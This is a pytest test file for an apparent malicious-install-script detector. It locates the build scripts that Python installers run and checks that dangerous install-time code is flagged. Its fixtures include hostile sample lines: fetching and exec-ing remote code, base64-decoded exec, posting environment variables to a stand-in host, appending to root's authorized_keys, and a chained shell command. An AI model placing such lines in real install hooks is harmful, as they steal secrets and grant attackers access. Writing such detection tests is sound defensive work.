"""Which files of a repository an installer runs, and what they may do there."""

import ast

import pytest

from hauberk.analysis.code.installing import judged_installing
from hauberk.core.asset import Bytes
from hauberk.core.finding import Severity
from hauberk.core.gap import Gap
from hauberk.formats.install_script import InstallScript, install_scripts

SOURCE = Bytes(b"x = 1\n")


def names(project: str, *files: str) -> list[str]:
    held = {"pyproject.toml": Bytes(project.encode()), **dict.fromkeys(files, SOURCE)}
    return [each.locator for each in install_scripts("repo", held) if isinstance(each, InstallScript)]


@pytest.mark.parametrize(
    ("project", "script"),
    [
        ("", "setup.py"),
        ('[build-system]\nbuild-backend = "own"\nbackend-path = ["."]', "own.py"),
        ('[build-system]\nbuild-backend = "own.back:end"\nbackend-path = ["./tools"]', "tools/own/back.py"),
        ('[build-system]\nbuild-backend = "own"\nbackend-path = ["tools"]', "tools/own/__init__.py"),
        ("[tool.hatch.build.hooks.custom]", "hatch_build.py"),
        ('[tool.hatch.build.targets.wheel.hooks.custom]\npath = "h.py"', "h.py"),
        ('[tool.poetry.build]\nscript = "b.py"', "b.py"),
        ('[tool.poetry]\nbuild = "b.py"', "b.py"),
        ('[tool.pdm.build]\ncustom-hook = "p.py"', "p.py"),
    ],
)
def test_an_installer_runs_it(project: str, script: str) -> None:
    assert names(project, script, "other.py") == [f"repo/{script}"]


@pytest.mark.parametrize("octets", [b"[", b"\xff\xfe", b"a = " + b"[" * 5000, b"#" * (1 << 21)])
def test_a_project_that_cannot_be_read_is_a_gap(octets: bytes) -> None:
    (gap,) = install_scripts(".", {"pyproject.toml": Bytes(octets)})
    assert isinstance(gap, Gap)
    assert gap.place.locator == "pyproject.toml"


def test_a_script_that_is_no_python_is_a_gap() -> None:
    (gap,) = install_scripts("repo", {"setup.py": Bytes(b"x = = 1")})
    assert isinstance(gap, Gap)


@pytest.mark.parametrize("project", ["build-system = 3", "tool = []", "[build-system]\nbackend-path = 7"])
def test_settings_of_other_types_name_nothing(project: str) -> None:
    assert names(project, "other.py") == []


def worst(source: str) -> Severity | None:
    return max((each.severity for each in judged_installing(ast.parse(source))), default=None)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('touch /tmp/x')",
        "import subprocess as s\ns.Popen(['/tmp/x', '-v'])",
        "import os\nos.system('cd build && curl http://192.0.2.1/x')",
        "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))",
        "import requests\nexec(requests.get('http://192.0.2.1').text)",
        "import requests, os\ndef f():\n    requests.post('http://192.0.2.1', json=dict(os.environ))",
        "import socket\ns = socket.socket()",
        "import urllib.request as u\nu.urlopen('http://192.0.2.1')",
        "open('/root/.ssh/authorized_keys', 'a').write('x')",
        "from os import system as s\ns('git status; /tmp/x')",
    ],
)
def test_what_no_build_does_is_found(source: str) -> None:
    found = worst(source)
    assert found is not None
    assert found >= Severity.MEDIUM


@pytest.mark.parametrize(
    "source",
    [
        "exec(open('m/version.py').read())",
        "import subprocess\nv = subprocess.check_output(['git', 'describe']).decode('ascii')",
        "import subprocess\nsubprocess.run(['rm -f m/*.so'], shell=True)",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'list'])",
        "import os\nos.system('cd build && cmake .. && make -j8')",
        "import os\nos.system(f'./configure --prefix={os.getcwd()}')",
        "import subprocess\ndef f(command):\n    subprocess.check_call(command, cwd='build')",
        "from distutils.core import setup\nsetup(name='m')",
        "import ctypes\nprint(ctypes.util.find_library('cuda'))",
        "__import__('pkg_resources').declare_namespace('m')",
    ],
)
def test_what_builds_do_is_not_found(source: str) -> None:
    found = worst(source)
    assert found is None or found <= Severity.LOW
